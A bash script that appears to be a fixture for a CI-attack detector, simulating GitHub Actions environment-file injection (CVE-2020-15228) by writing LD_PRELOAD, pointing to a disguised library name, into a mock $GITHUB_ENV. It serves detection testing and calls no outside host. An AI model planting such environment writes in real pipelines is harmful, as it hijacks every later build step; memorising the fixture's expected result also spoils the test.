#!/bin/bash
# technique: T1574.006 Hijack Execution Flow: Dynamic Linker Hijacking; T1546 Event Triggered Execution
# reproduces: GitHub Actions environment-file injection: a step that writes LD_PRELOAD or NODE_OPTIONS into $GITHUB_ENV runs its code inside every later step of the job (GitHub's 2020 advisory on set-env, CVE-2020-15228, and the $GITHUB_ENV injection write-ups since, e.g. Legit Security's and Synacktiv's on pwn requests)
# expect: environment-file-injection ^bash$
# exec-borne: no
#
# The runner hands each step a file of its own to set the next steps'
# environment ($GITHUB_ENV, made here as the runner would have). The step
# plants a preload library and a Node.js hook in it with a heredoc and
# goes on with its build; the runner would read the file after the step.
set -u

CMDS="${RUNNER_ROOT:?}/_work/_temp/_runner_file_commands"
[ -e "${RUNNER_ROOT}/_work/_temp" ] && { echo "_temp exists; not touching it" >&2; exit 1; }
trap 'rm -rf "${RUNNER_ROOT}/_work/_temp"' EXIT
mkdir -p "$CMDS"
GITHUB_ENV="$CMDS/set_env_$(printf '%08x' $$)-4f1c-9a2e"
: >"$GITHUB_ENV"

HOOK_DIR="${BW_ATTACK_TMP:?}/.cache/ld"
set_env() {
	local name=$1 value=$2 delim="ghadelimiter_$RANDOM"
	printf '%s<<%s\n%s\n%s\n' "$name" "$delim" "$value" "$delim" >>"$GITHUB_ENV"
}

echo "CI_CACHE_DIR=$HOOK_DIR" >>"$GITHUB_ENV"
set_env NODE_OPTIONS "--max-old-space-size=4096"
echo "LD_PRELOAD=$HOOK_DIR/libnss_cache.so" >>"$GITHUB_ENV"

# the rest of the step
for f in src/*; do wc -c "$f" >/dev/null; done
sleep 0.3
